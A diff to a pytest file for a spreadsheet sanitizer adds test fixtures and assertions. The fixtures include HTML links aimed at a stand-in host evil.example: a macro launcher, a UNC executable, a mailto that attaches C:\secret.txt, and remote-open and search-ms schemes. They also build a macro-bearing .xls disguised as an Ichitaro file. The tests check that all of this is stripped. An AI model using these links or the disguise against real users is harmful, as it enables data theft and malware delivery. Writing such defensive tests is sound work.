@@ -113,6 +113,18 @@ HTML_OBJECTS = (
 LOCAL_PICTURE = next(Path(sys.prefix).rglob("*.png"), None) or next(Path("/usr/share").rglob("*.png"), None)
 HTML_LOCAL_PICTURES = html_table(f'<tr><td><img src="file://{LOCAL_PICTURE}"></td><td><img src="{LOCAL_PICTURE}"></td></tr>')
 
+# links LibreOffice or Windows would act on: a Basic macro, a share, a mail with an
+# attachment, Office's "open for editing" and Explorer's search over a share
+HTML_SCHEMES = html_table(
+    '<tr><td><a href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application">m</a></td>'
+    '<td><a href="macro:///Standard.Module1.Main">m2</a></td></tr>'
+    '<tr><td><a href="\\\\evil.example\\share\\x.exe">unc</a></td>'
+    '<td><a href="mailto:a@evil.example?attach=C:\\secret.txt">mail</a></td></tr>'
+    '<tr><td><a href="ms-excel:ofe|u|http://evil.example/x.xlsm">ofe</a></td>'
+    '<td><a href="search-ms:query=x&amp;crumb=location:\\\\evil.example\\s">s</a></td></tr>'
+    '<tr><td><a href="#Sheet1.A1">in</a></td><td><a href="https://www.city.example.lg.jp/">市</a></td></tr>'
+)
+
 # LibreOffice attacks: name → (bytes, the released name)
 CONVERTED = {
     "active.xls": (HTML_ACTIVE, "active.xlsx"),
@@ -121,6 +133,7 @@ CONVERTED = {
     "ss2003.xls": (XML_SPREADSHEET, "ss2003.xlsx"),
     "objects.xls": (HTML_OBJECTS, "objects.xlsx"),
     "pictures.xls": (HTML_LOCAL_PICTURES, "pictures.xlsx"),
+    "schemes.xls": (HTML_SCHEMES, "schemes.xlsx"),
 }
 
 CSV_ROWS = (
@@ -228,7 +241,7 @@ STYLES_ELEMENTS = set(
 FORMULA_ELEMENTS = {"f", "formula", "formula1", "formula2", "definedName"}
 # functions that compute from the book itself; anything else (a link, a call, a web query,
 # a DDE channel) is not accepted here
-HARMLESS_FUNCTIONS = {"SUM", "AVERAGE", "COUNT", "COUNTA", "MIN", "MAX", "IF", "ROUND", "AND", "OR", "NOT"}
+HARMLESS_FUNCTIONS = {"SUM", "AVERAGE", "COUNT", "COUNTA", "MIN", "MAX", "IF", "ROUND", "AND", "OR", "NOT", "TRUE", "FALSE"}
 WEB_TARGET = re.compile(r"(?:https?://[A-Za-z0-9][^\s\"\\]*|mailto:[^\s\"\\?]+)")
 
 
@@ -427,10 +440,34 @@ def test_csv_under_excel_names_and_polyglots(tmp_path: Path) -> None:
     assert released == {".csv"}, "text never crosses under an Excel name"
 
 
-@pytest.mark.slow  # LibreOffice: one CLI run converts all six
+def ichitaro_marked_xls_with_macros(work: Path) -> bytes:
+    """A real .xls with a VBA project (LibreOffice's own export of xlwings' quickstart) whose
+    summary stream is renamed JSRV_SegmentInfo: an OLE file that looks like 一太郎 to a
+    detector that reads the streams, but is Excel's and carries macros."""
+    from tests import office_builders as ob
+
+    source = work / "macro.xlsm"
+    source.write_bytes(ob.xlwings_file("quickstart.xlsm"))
+    data = bytearray(ob.libreoffice(work, source, "xls:MS Excel 97").read_bytes())
+    entry = data.find("\x05SummaryInformation".encode("utf-16-le"))  # a directory entry's name
+    assert entry > 0
+    name = "JSRV_SegmentInfo".encode("utf-16-le") + b"\0\0"
+    data[entry : entry + 66] = name.ljust(64, b"\0") + len(name).to_bytes(2, "little")
+    return bytes(data)
+
+
+@pytest.mark.slow  # LibreOffice: one CLI run converts all eight
 def test_html_and_xml_spreadsheets_cross_only_as_harmless_workbooks(tmp_path: Path) -> None:
     assert LOCAL_PICTURE is not None, "no picture on this machine to link to"
-    results = sanitize(tmp_path, {name: data for name, (data, _) in CONVERTED.items()})
+    (tmp_path / "build").mkdir()
+    polyglot = ichitaro_marked_xls_with_macros(tmp_path / "build")
+    files = {name: data for name, (data, _) in CONVERTED.items()}
+    results = sanitize(tmp_path, {**files, "jsrv_macro.xls": polyglot, "jsrv_macro.jtd": polyglot})
+    assert results["jsrv_macro.jtd"]["reason"] == "extension-mismatch"  # 一太郎's name, Excel's content
+    macro_free = Path(str(results["jsrv_macro.xls"]["output"]))
+    assert results["jsrv_macro.xls"]["type"] == "xls" and macro_free.name == "jsrv_macro.xlsx"
+    assert any(a["what"] == "vba-macros" and a["action"] == "removed" for a in results["jsrv_macro.xls"]["actions"])
+    assert inspect_xlsx(macro_free) == []
     for name, (_, released) in CONVERTED.items():
         result = results[name]
         assert result["verdict"] == "released", (name, result)
@@ -448,3 +485,8 @@ def test_html_and_xml_spreadsheets_cross_only_as_harmless_workbooks(tmp_path: Pa
     with zipfile.ZipFile(tmp_path / "out" / "excel_web.xlsx") as package:
         web = package.read("xl/worksheets/sheet1.xml").decode()
     assert 'HYPERLINK("http://ok.example/","web")' in web  # a plain web link is the policy's to keep
+    with zipfile.ZipFile(tmp_path / "out" / "schemes.xlsx") as package:
+        rels = package.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
+        sheet = package.read("xl/worksheets/sheet1.xml").decode()
+    assert re.findall(r'Target="([^"]*)"', rels) == ["https://www.city.example.lg.jp/"]
+    assert 'location="Sheet1!A1"' in sheet  # the jump inside the book stays
